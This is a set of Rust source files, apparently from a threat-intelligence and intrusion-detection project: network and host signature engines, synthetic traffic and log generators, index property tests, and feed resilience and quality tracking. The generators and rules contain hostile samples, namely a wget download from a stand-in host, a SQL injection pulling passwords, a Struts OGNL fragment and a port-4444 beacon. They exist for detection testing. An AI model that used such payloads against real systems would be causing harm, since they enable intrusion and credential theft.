pub struct NidsRule {
    /// Signature id (Snort SID-style).
    pub sid: u32,
    /// Message emitted on match.
    pub message: String,
    /// Severity of the finding.
    pub severity: AlarmSeverity,
    /// Destination port constraint.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub dst_port: Option<u16>,
    /// Case-insensitive payload substring constraint.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub content: Option<String>,
    /// Source IP constraint (exact).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub src_ip: Option<String>,
    /// Application the rule protects, when known.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub application: Option<String>,
}

impl NidsRule {
    fn matches(&self, packet: &Packet) -> bool {
        if let Some(port) = self.dst_port {
            if packet.dst_port != port {
                return false;
            }
        }
        if let Some(content) = &self.content {
            if !packet
                .payload
                .to_ascii_lowercase()
                .contains(&content.to_ascii_lowercase())
            {
                return false;
            }
        }
        if let Some(src) = &self.src_ip {
            if packet.src_ip != *src {
                return false;
            }
        }
        true
    }
}

/// The signature engine.
#[derive(Debug, Clone, Default)]
pub struct NidsEngine {
    name: String,
    rules: Vec<NidsRule>,
}

impl NidsEngine {
    /// Creates an engine with no rules.
    pub fn new(name: impl Into<String>) -> Self {
        NidsEngine {
            name: name.into(),
            rules: Vec::new(),
        }
    }

    /// A Suricata-flavored engine loaded with the default ruleset:
    /// Struts RCE (the paper's use case), shell download, SQL injection,
    /// port-scan and beaconing signatures.
    pub fn with_default_rules(name: impl Into<String>) -> Self {
        let mut engine = NidsEngine::new(name);
        engine
            .add_rule(NidsRule {
                sid: 2_024_001,
                message: "Apache Struts REST XStream RCE attempt (CVE-2017-9805)".into(),
                severity: AlarmSeverity::High,
                dst_port: Some(8080),
                content: Some("xstream".into()),
                src_ip: None,
                application: Some("apache struts".into()),
            })
            .add_rule(NidsRule {
                sid: 2_024_002,
                message: "outbound shell download".into(),
                severity: AlarmSeverity::High,
                dst_port: None,
                content: Some("wget http".into()),
                src_ip: None,
                application: None,
            })
            .add_rule(NidsRule {
                sid: 2_024_003,
                message: "SQL injection probe".into(),
                severity: AlarmSeverity::Medium,
                dst_port: Some(80),
                content: Some("union select".into()),
                src_ip: None,
                application: Some("php".into()),
            })
            .add_rule(NidsRule {
                sid: 2_024_004,
                message: "ssh brute-force attempt".into(),
                severity: AlarmSeverity::Medium,
                dst_port: Some(22),
                content: Some("ssh-2.0".into()),
                src_ip: None,
                application: None,
            })
            .add_rule(NidsRule {
                sid: 2_024_005,
                message: "possible c2 beacon".into(),
                severity: AlarmSeverity::Low,
                dst_port: Some(4444),
                content: None,
                src_ip: None,
                application: None,
            });
        engine
    }

    /// Adds a rule.
    pub fn add_rule(&mut self, rule: NidsRule) -> &mut Self {
        self.rules.push(rule);
        self
    }

    /// The loaded rules.
    pub fn rules(&self) -> &[NidsRule] {
        &self.rules
    }

    /// Inspects a packet against every rule, emitting one event per
    /// matching signature. `inventory` attributes events to the node
    /// owning the destination IP.
    pub fn inspect(&self, packet: &Packet, inventory: &Inventory) -> Vec<SensorEvent> {
        let node: Option<NodeId> = inventory.node_by_ip(&packet.dst_ip).map(|n| n.id);
        self.rules
            .iter()
            .filter(|rule| rule.matches(packet))
            .map(|rule| SensorEvent {
                at: packet.at,
                sensor: self.name.clone(),
                node,
                severity: rule.severity,
                message: format!("[{}] {}", rule.sid, rule.message),
                source_ip: Some(packet.src_ip.clone()),
                destination_ip: Some(packet.dst_ip.clone()),
                application: rule.application.clone(),
                observables: vec![Observable::new(ObservableKind::Ipv4, &packet.src_ip)],
            })
            .collect()
    }

    /// Inspects a batch of packets.
    pub fn inspect_all(&self, packets: &[Packet], inventory: &Inventory) -> Vec<SensorEvent> {
        packets
            .iter()
            .flat_map(|p| self.inspect(p, inventory))
            .collect()
    }
}

/// Generates a seeded traffic mix: mostly benign background packets with
/// `attack_fraction` of packets matching one of the default signatures.
pub fn generate_traffic(
    seed: u64,
    count: usize,
    attack_fraction: f64,
    inventory: &Inventory,
    base_time: Timestamp,
) -> Vec<Packet> {
    let mut rng = StdRng::seed_from_u64(seed);
    let node_ips: Vec<String> = inventory
        .nodes()
        .flat_map(|n| n.ip_addresses.clone())
        .collect();
    let mut packets = Vec::with_capacity(count);
    for i in 0..count {
        let at = base_time.add_millis(i as i64 * 250);
        let dst_ip = node_ips
            .choose(&mut rng)
            .cloned()
            .unwrap_or_else(|| "192.0.2.1".to_owned());
        let src_ip = format!("203.0.113.{}", rng.gen_range(1..=254u8));
        let packet = if rng.gen_bool(attack_fraction) {
            match rng.gen_range(0..5) {
                0 => Packet {
                    at,
                    src_ip,
                    dst_ip,
                    dst_port: 8080,
                    payload:
                        "POST /struts2-rest-showcase <map><entry/></map> XStreamHandler xstream"
                            .into(),
                },
                1 => Packet {
                    at,
                    src_ip,
                    dst_ip,
                    dst_port: 80,
                    payload: "GET /tmp.sh; wget http://drop.example/p.sh".into(),
                },
                2 => Packet {
                    at,
                    src_ip,
                    dst_ip,
                    dst_port: 80,
                    payload: "GET /page?id=1 UNION SELECT username,password FROM users".into(),
                },
                3 => Packet {
                    at,
                    src_ip,
                    dst_ip,
                    dst_port: 22,
                    payload: "SSH-2.0-libssh brute".into(),
                },
                _ => Packet {
                    at,
                    src_ip,
                    dst_ip,
                    dst_port: 4444,
                    payload: "beacon".into(),
                },
            }
        } else {
            Packet {
                at,
                src_ip,
                dst_ip,
                dst_port: *[80u16, 443, 53, 123].choose(&mut rng).expect("non-empty"),
                payload: "GET /index.html HTTP/1.1".into(),
            }
        };
        packets.push(packet);
    }
    packets
}

#[cfg(test)]
mod tests {
    use super::*;

    fn inventory() -> Inventory {
        Inventory::paper_table3()
    }

    fn struts_packet() -> Packet {
        Packet {
            at: Timestamp::EPOCH,
            src_ip: "203.0.113.9".into(),
            dst_ip: "192.168.1.14".into(),
            dst_port: 8080,
            payload: "POST ... XStreamHandler xstream payload".into(),
        }
    }

    #[test]
    fn struts_rule_fires_and_attributes_node() {
        let engine = NidsEngine::with_default_rules("suricata");
        let events = engine.inspect(&struts_packet(), &inventory());
        assert_eq!(events.len(), 1);
        let event = &events[0];
        assert_eq!(event.severity, AlarmSeverity::High);
        assert_eq!(event.node, Some(NodeId(4)));
        assert_eq!(event.application.as_deref(), Some("apache struts"));
        assert!(event.message.contains("CVE-2017-9805"));
        assert_eq!(event.observables[0].value(), "203.0.113.9");
    }

    #[test]
    fn benign_packet_matches_nothing() {
        let engine = NidsEngine::with_default_rules("suricata");
        let packet = Packet {
            at: Timestamp::EPOCH,
            src_ip: "198.51.100.1".into(),
            dst_ip: "192.168.1.11".into(),
            dst_port: 443,
            payload: "GET / HTTP/1.1".into(),
        };
        assert!(engine.inspect(&packet, &inventory()).is_empty());
    }

    #[test]
    fn content_match_is_case_insensitive() {
        let engine = NidsEngine::with_default_rules("snort");
        let mut packet = struts_packet();
        packet.payload = packet.payload.to_uppercase();
        assert_eq!(engine.inspect(&packet, &inventory()).len(), 1);
    }

    #[test]
    fn port_constraint_is_enforced() {
        let engine = NidsEngine::with_default_rules("snort");
        let mut packet = struts_packet();
        packet.dst_port = 9090;
        assert!(engine.inspect(&packet, &inventory()).is_empty());
    }

    #[test]
    fn traffic_generator_is_seeded_and_mixes_attacks() {
        let inv = inventory();
        let a = generate_traffic(5, 500, 0.2, &inv, Timestamp::EPOCH);
        let b = generate_traffic(5, 500, 0.2, &inv, Timestamp::EPOCH);
        assert_eq!(a, b);
        let engine = NidsEngine::with_default_rules("suricata");
        let events = engine.inspect_all(&a, &inv);
        let rate = events.len() as f64 / a.len() as f64;
        assert!(
            (0.1..0.35).contains(&rate),
            "attack detection rate {rate} implausible"
        );
    }

    #[test]
    fn zero_attack_fraction_yields_silence() {
        let inv = inventory();
        let packets = generate_traffic(5, 200, 0.0, &inv, Timestamp::EPOCH);
        let engine = NidsEngine::with_default_rules("suricata");
        assert!(engine.inspect_all(&packets, &inv).is_empty());
    }
}
