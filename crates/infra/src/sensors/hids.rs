//! A host intrusion-detection engine in the style of OSSEC: rules over
//! host log lines, plus a seeded log generator.

use cais_common::{observable, Timestamp};
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use serde::{Deserialize, Serialize};

use super::SensorEvent;
use crate::alarm::AlarmSeverity;
use crate::inventory::{Inventory, NodeId};

/// One host log line.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct LogLine {
    /// Log timestamp.
    pub at: Timestamp,
    /// The node the log came from.
    pub node: NodeId,
    /// The producing facility (`auth`, `web`, `kernel`, `app`).
    pub facility: String,
    /// The raw log text.
    pub text: String,
}

/// An OSSEC-style log rule: a case-insensitive substring trigger with an
/// optional facility constraint.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct HidsRule {
    /// Rule identifier.
    pub id: u32,
    /// Substring that triggers the rule.
    pub trigger: String,
    /// Optional facility the rule is scoped to.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub facility: Option<String>,
    /// Severity of the finding.
    pub severity: AlarmSeverity,
    /// Message emitted on match.
    pub message: String,
    /// Application involved, when known.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub application: Option<String>,
}

impl HidsRule {
    fn matches(&self, line: &LogLine) -> bool {
        if let Some(facility) = &self.facility {
            if !line.facility.eq_ignore_ascii_case(facility) {
                return false;
            }
        }
        line.text
            .to_ascii_lowercase()
            .contains(&self.trigger.to_ascii_lowercase())
    }
}

/// The host-rule engine.
#[derive(Debug, Clone, Default)]
pub struct HidsEngine {
    name: String,
    rules: Vec<HidsRule>,
}

impl HidsEngine {
    /// Creates an engine with no rules.
    pub fn new(name: impl Into<String>) -> Self {
        HidsEngine {
            name: name.into(),
            rules: Vec::new(),
        }
    }

    /// An OSSEC-flavored engine with the default ruleset: failed logins,
    /// privilege escalation, web shell writes and integrity changes.
    pub fn with_default_rules(name: impl Into<String>) -> Self {
        let mut engine = HidsEngine::new(name);
        engine
            .add_rule(HidsRule {
                id: 5_710,
                trigger: "failed password".into(),
                facility: Some("auth".into()),
                severity: AlarmSeverity::Low,
                message: "sshd authentication failure".into(),
                application: None,
            })
            .add_rule(HidsRule {
                id: 5_720,
                trigger: "repeated authentication failures".into(),
                facility: Some("auth".into()),
                severity: AlarmSeverity::Medium,
                message: "possible brute-force against sshd".into(),
                application: None,
            })
            .add_rule(HidsRule {
                id: 4_720,
                trigger: "uid=0".into(),
                facility: Some("auth".into()),
                severity: AlarmSeverity::High,
                message: "unexpected root session".into(),
                application: None,
            })
            .add_rule(HidsRule {
                id: 31_101,
                trigger: "ognl".into(),
                facility: Some("web".into()),
                severity: AlarmSeverity::High,
                message: "struts OGNL expression in request".into(),
                application: Some("apache struts".into()),
            })
            .add_rule(HidsRule {
                id: 550,
                trigger: "integrity checksum changed".into(),
                facility: None,
                severity: AlarmSeverity::Medium,
                message: "file integrity change detected".into(),
                application: None,
            });
        engine
    }

    /// Adds a rule.
    pub fn add_rule(&mut self, rule: HidsRule) -> &mut Self {
        self.rules.push(rule);
        self
    }

    /// The loaded rules.
    pub fn rules(&self) -> &[HidsRule] {
        &self.rules
    }

    /// Inspects one log line against every rule.
    pub fn inspect(&self, line: &LogLine) -> Vec<SensorEvent> {
        self.rules
            .iter()
            .filter(|rule| rule.matches(line))
            .map(|rule| SensorEvent {
                at: line.at,
                sensor: self.name.clone(),
                node: Some(line.node),
                severity: rule.severity,
                message: format!("[{}] {}", rule.id, rule.message),
                source_ip: None,
                destination_ip: None,
                application: rule.application.clone(),
                observables: observable::extract(&line.text),
            })
            .collect()
    }

    /// Inspects a batch of log lines.
    pub fn inspect_all(&self, lines: &[LogLine]) -> Vec<SensorEvent> {
        lines.iter().flat_map(|l| self.inspect(l)).collect()
    }
}

/// Generates seeded host logs across the inventory's nodes: benign noise
/// with `suspicious_fraction` of lines that trip default rules.
pub fn generate_logs(
    seed: u64,
    count: usize,
    suspicious_fraction: f64,
    inventory: &Inventory,
    base_time: Timestamp,
) -> Vec<LogLine> {
    let mut rng = StdRng::seed_from_u64(seed);
    let node_ids: Vec<NodeId> = inventory.nodes().map(|n| n.id).collect();
    let mut lines = Vec::with_capacity(count);
    for i in 0..count {
        let at = base_time.add_millis(i as i64 * 1_000);
        let node = *node_ids.choose(&mut rng).unwrap_or(&NodeId(1));
        let line = if rng.gen_bool(suspicious_fraction) {
            match rng.gen_range(0..5) {
                0 => LogLine {
                    at,
                    node,
                    facility: "auth".into(),
                    text: format!(
                        "sshd[1893]: Failed password for root from 203.0.113.{} port 52214",
                        rng.gen_range(1..=254u8)
                    ),
                },
                1 => LogLine {
                    at,
                    node,
                    facility: "auth".into(),
                    text: "sshd: repeated authentication failures from 203.0.113.77".into(),
                },
                2 => LogLine {
                    at,
                    node,
                    facility: "auth".into(),
                    text: "su: session opened uid=0 by unknown".into(),
                },
                3 => LogLine {
                    at,
                    node,
                    facility: "web".into(),
                    text: "POST /struts2-rest body contains %{(#_='multipart').(#ognl)}".into(),
                },
                _ => LogLine {
                    at,
                    node,
                    facility: "syscheck".into(),
                    text: "integrity checksum changed for /usr/bin/sshd".into(),
                },
            }
        } else {
            LogLine {
                at,
                node,
                facility: "app".into(),
                text: format!(
                    "worker {}: request completed in {}ms",
                    i,
                    rng.gen_range(2..90)
                ),
            }
        };
        lines.push(line);
    }
    lines
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn struts_ognl_rule_fires() {
        let engine = HidsEngine::with_default_rules("ossec");
        let line = LogLine {
            at: Timestamp::EPOCH,
            node: NodeId(4),
            facility: "web".into(),
            text: "POST body with OGNL expression".into(),
        };
        let events = engine.inspect(&line);
        assert_eq!(events.len(), 1);
        assert_eq!(events[0].severity, AlarmSeverity::High);
        assert_eq!(events[0].application.as_deref(), Some("apache struts"));
    }

    #[test]
    fn facility_scoping() {
        let engine = HidsEngine::with_default_rules("ossec");
        let line = LogLine {
            at: Timestamp::EPOCH,
            node: NodeId(1),
            facility: "web".into(),
            text: "failed password".into(), // auth-scoped rule
        };
        assert!(engine.inspect(&line).is_empty());
    }

    #[test]
    fn observables_are_extracted_from_logs() {
        let engine = HidsEngine::with_default_rules("ossec");
        let line = LogLine {
            at: Timestamp::EPOCH,
            node: NodeId(2),
            facility: "auth".into(),
            text: "sshd: Failed password for admin from 203.0.113.9".into(),
        };
        let events = engine.inspect(&line);
        assert_eq!(events.len(), 1);
        assert!(events[0]
            .observables
            .iter()
            .any(|o| o.value() == "203.0.113.9"));
    }

    #[test]
    fn log_generator_is_seeded() {
        let inv = Inventory::paper_table3();
        let a = generate_logs(9, 300, 0.3, &inv, Timestamp::EPOCH);
        let b = generate_logs(9, 300, 0.3, &inv, Timestamp::EPOCH);
        assert_eq!(a, b);
        let engine = HidsEngine::with_default_rules("ossec");
        let events = engine.inspect_all(&a);
        assert!(!events.is_empty());
    }
}
