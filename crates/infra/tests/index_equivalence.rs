//! Property test: the tokenized inverted index ([`MatchIndex`]) is
//! observationally equivalent to the retained linear-scan matcher on
//! arbitrary inventories and candidates — same node sets, same
//! common-keyword flag — including the awkward edges: mixed case,
//! whitespace-only names, multi-word subsets in both directions,
//! unknown tokens and common keywords.

use cais_infra::inventory::{Inventory, NodeType};
use proptest::prelude::*;

/// A small shared vocabulary so installed names and candidates
/// actually collide: single words, multi-word names that are word
/// supersets/subsets of each other, mixed case, and degenerate
/// whitespace entries.
const NAMES: &[&str] = &[
    "apache",
    "apache struts",
    "Apache Struts rce",
    "struts",
    "gitlab",
    "GitLab runner",
    "ubuntu",
    "Debian",
    "linux",
    "snort suricata",
    "suricata",
    "owncloud",
    "",
    "   ",
    "zookeeper apache",
];

fn name() -> impl Strategy<Value = String> {
    prop::sample::select(NAMES.to_vec()).prop_map(str::to_owned)
}

/// An inventory of 0..6 nodes with 0..4 applications each, plus 0..2
/// common keywords drawn from the same vocabulary.
fn inventory() -> impl Strategy<Value = Inventory> {
    let node = (
        prop::sample::select(NAMES.to_vec()).prop_map(str::to_owned),
        prop::collection::vec(name(), 0..4),
    );
    (
        prop::collection::vec(node, 0..6),
        prop::collection::vec(name(), 0..2),
    )
        .prop_map(|(nodes, keywords)| {
            let mut builder = Inventory::builder();
            for (os, apps) in nodes {
                let mut nb = builder.node("n", NodeType::Server, os);
                for app in apps {
                    nb.application(app);
                }
            }
            for kw in keywords {
                builder.common_keyword(kw);
            }
            builder.build()
        })
}

/// Candidates: the vocabulary plus unknown tokens and mixed
/// known/unknown multi-words.
const EXTRA_CANDIDATES: &[&str] = &["nonexistent", "apache nonexistent", "APACHE   STRUTS"];

fn candidates() -> impl Strategy<Value = Vec<String>> {
    let pool: Vec<String> = NAMES
        .iter()
        .chain(EXTRA_CANDIDATES)
        .map(|s| (*s).to_owned())
        .collect();
    prop::collection::vec(prop::sample::select(pool), 0..5)
}

proptest! {
    /// `match_application` agrees with the linear scan on every
    /// candidate drawn from the vocabulary.
    #[test]
    fn match_application_equals_linear(inv in inventory(), cand in candidates()) {
        for c in &cand {
            let indexed = inv.match_application(c);
            let linear = inv.match_application_linear(c);
            prop_assert_eq!(
                indexed, linear,
                "candidate {:?} over inventory of {} nodes", c, inv.len()
            );
        }
    }

    /// `match_any` (the reducer's entry point) agrees with the linear
    /// union matcher on whole candidate lists.
    #[test]
    fn match_any_equals_linear(inv in inventory(), cand in candidates()) {
        let indexed = inv.match_any(&cand);
        let linear = inv.match_any_linear(&cand);
        prop_assert_eq!(indexed, linear);
    }

    /// Mutating the inventory mid-stream keeps the two matchers in
    /// agreement (the generation counter invalidates the index).
    #[test]
    fn equivalence_survives_mutation(
        mut inv in inventory(),
        cand in candidates(),
        extra in name(),
    ) {
        // Force an index build, then mutate.
        let _ = inv.match_application("apache");
        let id = inv.add_node("late", NodeType::Workstation, "linux mint");
        inv.install_application(id, extra);
        for c in &cand {
            prop_assert_eq!(inv.match_application(c), inv.match_application_linear(c));
        }
        prop_assert_eq!(inv.match_any(&cand), inv.match_any_linear(&cand));
    }
}
