//! Per-source resilience: retries and circuit breaking around
//! [`FeedSource::collect`].
//!
//! A [`ResilientSource`] wraps any feed source with a bounded
//! [`RetryPolicy`] and a [`CircuitBreaker`]. Its RNG stream (for
//! backoff jitter) is seeded from a run seed and the source name, so
//! two runs over the same seed draw identical jitter regardless of how
//! other sources interleave — the same per-site independence the
//! [`FaultPlan`](cais_common::resilience::FaultPlan) guarantees on the
//! injection side.

use cais_common::resilience::{
    site_hash, BreakerConfig, BreakerTransitions, CircuitBreaker, RetryPolicy, Sleeper,
};
use rand::rngs::StdRng;
use rand::SeedableRng;

use crate::{FeedError, FeedRecord, FeedSource};

/// Retry and breaker settings applied per source.
#[derive(Debug, Clone, Default)]
pub struct ResilienceConfig {
    /// The retry ladder for each poll.
    pub retry: RetryPolicy,
    /// Breaker thresholds isolating a repeatedly failing source.
    pub breaker: BreakerConfig,
}

impl ResilienceConfig {
    /// Pass-through: no retries, breaker never trips. The legacy
    /// scheduler behaviour.
    pub fn disabled() -> Self {
        ResilienceConfig {
            retry: RetryPolicy::no_retries(),
            breaker: BreakerConfig::disabled(),
        }
    }
}

/// The outcome of one resilient poll of a source.
#[derive(Debug)]
pub enum RoundOutcome {
    /// Records collected (possibly after retries).
    Delivered(Vec<FeedRecord>),
    /// The breaker is open; the source was not called.
    Quarantined,
    /// The retry budget was spent; the last error is attached.
    Failed(FeedError),
    /// A stop signal interrupted the backoff wait mid-ladder.
    Interrupted,
}

/// A feed source wrapped in retries and a circuit breaker.
///
/// # Examples
///
/// ```
/// use cais_common::resilience::{FaultKind, FaultPlan, RecordingSleeper, RetryPolicy};
/// use cais_feeds::{
///     FeedFormat, FlakySource, MemorySource, ResilienceConfig, ResilientSource, RoundOutcome,
///     ThreatCategory,
/// };
///
/// let plan = FaultPlan::new(1).fail_first("feed:a", 2, FaultKind::Error);
/// let flaky = FlakySource::scripted(
///     MemorySource::new("a", FeedFormat::PlainText, ThreatCategory::MalwareDomain,
///                       "evil.example\n"),
///     plan,
///     "feed:a",
/// );
/// let config = ResilienceConfig { retry: RetryPolicy::fast(4), ..Default::default() };
/// let mut source = ResilientSource::new(Box::new(flaky), &config, 42);
/// // Two injected failures are absorbed by the retry ladder.
/// let outcome = source.poll(&RecordingSleeper::new());
/// assert!(matches!(outcome, RoundOutcome::Delivered(ref r) if r.len() == 1));
/// assert_eq!(source.total_retries(), 2);
/// ```
pub struct ResilientSource {
    source: Box<dyn FeedSource>,
    retry: RetryPolicy,
    breaker: CircuitBreaker,
    rng: StdRng,
    total_retries: u64,
}

impl ResilientSource {
    /// Wraps `source` under `config`; jitter draws from an RNG stream
    /// seeded by `seed` and the source name.
    pub fn new(source: Box<dyn FeedSource>, config: &ResilienceConfig, seed: u64) -> Self {
        let rng = StdRng::seed_from_u64(seed ^ site_hash(source.name()));
        ResilientSource {
            source,
            retry: config.retry.clone(),
            breaker: CircuitBreaker::new(config.breaker),
            rng,
            total_retries: 0,
        }
    }

    /// The wrapped source's name.
    pub fn name(&self) -> &str {
        self.source.name()
    }

    /// The wrapped source.
    pub fn source(&self) -> &dyn FeedSource {
        self.source.as_ref()
    }

    /// Whether the breaker currently isolates this source.
    pub fn is_quarantined(&self) -> bool {
        self.breaker.is_quarantined()
    }

    /// Breaker transition counters so far.
    pub fn breaker_transitions(&self) -> BreakerTransitions {
        self.breaker.transitions()
    }

    /// Cumulative retries spent across every poll.
    pub fn total_retries(&self) -> u64 {
        self.total_retries
    }

    /// Polls the source once: breaker check, then collect under the
    /// retry ladder, sleeping backoffs on `sleeper`.
    pub fn poll(&mut self, sleeper: &impl Sleeper) -> RoundOutcome {
        if !self.breaker.allow() {
            return RoundOutcome::Quarantined;
        }
        let source = &self.source;
        let outcome = self
            .retry
            .run(&mut self.rng, sleeper, |_attempt| source.collect());
        self.total_retries += u64::from(outcome.retries);
        if outcome.interrupted {
            return RoundOutcome::Interrupted;
        }
        match outcome.result {
            Ok(records) => {
                self.breaker.on_success();
                RoundOutcome::Delivered(records)
            }
            Err(error) => {
                self.breaker.on_failure();
                RoundOutcome::Failed(error)
            }
        }
    }
}

impl std::fmt::Debug for ResilientSource {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("ResilientSource")
            .field("name", &self.source.name())
            .field("state", &self.breaker.state())
            .field("total_retries", &self.total_retries)
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{FeedFormat, FlakySource, MemorySource, ThreatCategory};
    use cais_common::resilience::{FaultKind, FaultPlan, RecordingSleeper};

    fn mem(name: &str) -> MemorySource {
        MemorySource::new(
            name,
            FeedFormat::PlainText,
            ThreatCategory::MalwareDomain,
            "evil.example\n",
        )
    }

    fn wrap(plan: FaultPlan, site: &str, config: &ResilienceConfig) -> ResilientSource {
        ResilientSource::new(
            Box::new(FlakySource::scripted(
                mem(site),
                plan,
                format!("feed:{site}"),
            )),
            config,
            7,
        )
    }

    fn config(attempts: u32) -> ResilienceConfig {
        ResilienceConfig {
            retry: RetryPolicy::fast(attempts),
            breaker: BreakerConfig {
                trip_after: 2,
                cooldown_probes: 1,
                half_open_successes: 1,
            },
        }
    }

    #[test]
    fn transient_outage_is_absorbed_by_retries() {
        let plan = FaultPlan::new(1).fail_first("feed:a", 2, FaultKind::Error);
        let mut source = wrap(plan, "a", &config(4));
        let sleeper = RecordingSleeper::new();
        match source.poll(&sleeper) {
            RoundOutcome::Delivered(records) => assert_eq!(records.len(), 1),
            other => panic!("expected delivery, got {other:?}"),
        }
        assert_eq!(source.total_retries(), 2);
        assert_eq!(sleeper.naps().len(), 2);
        assert!(!source.is_quarantined());
    }

    #[test]
    fn dead_source_trips_breaker_and_quarantines() {
        let plan = FaultPlan::new(1).always("feed:dead", FaultKind::Error);
        let mut source = wrap(plan, "dead", &config(2));
        let sleeper = RecordingSleeper::new();
        // Two exhausted retry ladders trip the breaker (trip_after: 2).
        assert!(matches!(source.poll(&sleeper), RoundOutcome::Failed(_)));
        assert!(matches!(source.poll(&sleeper), RoundOutcome::Failed(_)));
        assert!(source.is_quarantined());
        assert!(matches!(source.poll(&sleeper), RoundOutcome::Quarantined));
        assert_eq!(source.breaker_transitions().opened, 1);
    }

    #[test]
    fn recovered_source_closes_the_breaker_again() {
        // Dead long enough to trip (2 ladders × 2 attempts = 4 faults),
        // then healthy.
        let plan = FaultPlan::new(1).fail_first("feed:b", 4, FaultKind::Error);
        let mut source = wrap(plan, "b", &config(2));
        let sleeper = RecordingSleeper::new();
        assert!(matches!(source.poll(&sleeper), RoundOutcome::Failed(_)));
        assert!(matches!(source.poll(&sleeper), RoundOutcome::Failed(_)));
        // One cooldown probe denied, then the half-open trial succeeds.
        assert!(matches!(source.poll(&sleeper), RoundOutcome::Quarantined));
        assert!(matches!(source.poll(&sleeper), RoundOutcome::Delivered(_)));
        assert!(!source.is_quarantined());
        let transitions = source.breaker_transitions();
        assert_eq!((transitions.opened, transitions.closed), (1, 1));
    }

    #[test]
    fn parse_garbage_counts_as_failure_too() {
        let plan = FaultPlan::new(1).always("feed:g", FaultKind::Garbage);
        let mut source = wrap(plan, "g", &config(2));
        match source.poll(&RecordingSleeper::new()) {
            RoundOutcome::Failed(FeedError::Parse { .. }) => {}
            other => panic!("expected parse failure, got {other:?}"),
        }
    }
}
