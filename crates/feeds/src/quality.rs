//! Per-feed quality tracking.
//!
//! The paper's Variety criterion "evaluates the sources … from where
//! the information is originated" — which presumes the platform knows
//! its sources' characteristics. [`QualityTracker`] accumulates, per
//! feed: volume, how much of its output is first-seen (unique
//! contribution vs parroting other feeds), record freshness, and fetch
//! reliability; and condenses them into a 0–5 trust grade an operator
//! (or the weighting engine) can consume.

use std::collections::{HashMap, HashSet};

use cais_common::Timestamp;
use serde::{Deserialize, Serialize};

use crate::FeedRecord;

/// Accumulated per-feed counters.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct FeedStats {
    /// Records delivered.
    pub records: usize,
    /// Records this feed delivered before any other feed.
    pub first_seen: usize,
    /// Sum of record ages at delivery, in days (for the mean).
    age_days_total: f64,
    /// Successful fetches.
    pub fetches_ok: usize,
    /// Failed fetches.
    pub fetches_failed: usize,
}

impl FeedStats {
    /// Fraction of this feed's records that were new to the platform.
    pub fn unique_ratio(&self) -> f64 {
        if self.records == 0 {
            0.0
        } else {
            self.first_seen as f64 / self.records as f64
        }
    }

    /// Mean record age at delivery, in days.
    pub fn mean_age_days(&self) -> f64 {
        if self.records == 0 {
            0.0
        } else {
            self.age_days_total / self.records as f64
        }
    }

    /// Fetch success ratio (1.0 when the feed never fetched).
    pub fn reliability(&self) -> f64 {
        let total = self.fetches_ok + self.fetches_failed;
        if total == 0 {
            1.0
        } else {
            self.fetches_ok as f64 / total as f64
        }
    }

    /// The 0–5 trust grade: equal parts unique contribution,
    /// freshness (full marks within a day, none at 30+ days) and fetch
    /// reliability, scaled to the score range the heuristics use.
    pub fn grade(&self) -> f64 {
        let freshness = (1.0 - (self.mean_age_days() / 30.0)).clamp(0.0, 1.0);
        let composite = (self.unique_ratio() + freshness + self.reliability()) / 3.0;
        composite * 5.0
    }
}

/// Tracks quality across every feed the platform consumes.
#[derive(Debug, Default)]
pub struct QualityTracker {
    stats: HashMap<String, FeedStats>,
    seen_values: HashSet<String>,
}

impl QualityTracker {
    /// Creates an empty tracker.
    pub fn new() -> Self {
        QualityTracker::default()
    }

    /// Records a delivered batch, attributing first-seen credit in
    /// delivery order.
    pub fn record_batch(&mut self, records: &[FeedRecord], now: Timestamp) {
        for record in records {
            let stats = self.stats.entry(record.source.clone()).or_default();
            stats.records += 1;
            let age_days = (now.millis_since(record.seen_at)).max(0) as f64 / (24.0 * 3_600_000.0);
            stats.age_days_total += age_days;
            if self.seen_values.insert(record.dedup_key()) {
                stats.first_seen += 1;
            }
        }
    }

    /// Records a fetch outcome for a feed.
    pub fn record_fetch(&mut self, source: &str, ok: bool) {
        let stats = self.stats.entry(source.to_owned()).or_default();
        if ok {
            stats.fetches_ok += 1;
        } else {
            stats.fetches_failed += 1;
        }
    }

    /// The stats of one feed.
    pub fn stats(&self, source: &str) -> Option<&FeedStats> {
        self.stats.get(source)
    }

    /// Every feed's grade, best first.
    pub fn scoreboard(&self) -> Vec<(&str, f64)> {
        let mut out: Vec<(&str, f64)> = self
            .stats
            .iter()
            .map(|(source, stats)| (source.as_str(), stats.grade()))
            .collect();
        out.sort_by(|a, b| b.1.total_cmp(&a.1).then(a.0.cmp(b.0)));
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ThreatCategory;
    use cais_common::{Observable, ObservableKind};

    fn record(value: &str, source: &str, seen_at: Timestamp) -> FeedRecord {
        FeedRecord::new(
            Observable::new(ObservableKind::Domain, value),
            ThreatCategory::MalwareDomain,
            source,
            seen_at,
        )
    }

    #[test]
    fn first_seen_credit_goes_to_the_earlier_feed() {
        let now = Timestamp::from_ymd_hms(2019, 4, 2, 0, 0, 0);
        let mut tracker = QualityTracker::new();
        tracker.record_batch(
            &[
                record("a.ru", "fast-feed", now),
                record("b.ru", "fast-feed", now),
            ],
            now,
        );
        tracker.record_batch(
            &[
                record("a.ru", "slow-feed", now), // parroted
                record("c.ru", "slow-feed", now), // original
            ],
            now,
        );
        assert_eq!(tracker.stats("fast-feed").unwrap().unique_ratio(), 1.0);
        assert_eq!(tracker.stats("slow-feed").unwrap().unique_ratio(), 0.5);
        let board = tracker.scoreboard();
        assert_eq!(board[0].0, "fast-feed");
        assert!(board[0].1 > board[1].1);
    }

    #[test]
    fn freshness_degrades_the_grade() {
        let now = Timestamp::from_ymd_hms(2019, 4, 2, 0, 0, 0);
        let mut tracker = QualityTracker::new();
        tracker.record_batch(&[record("fresh.ru", "fresh", now)], now);
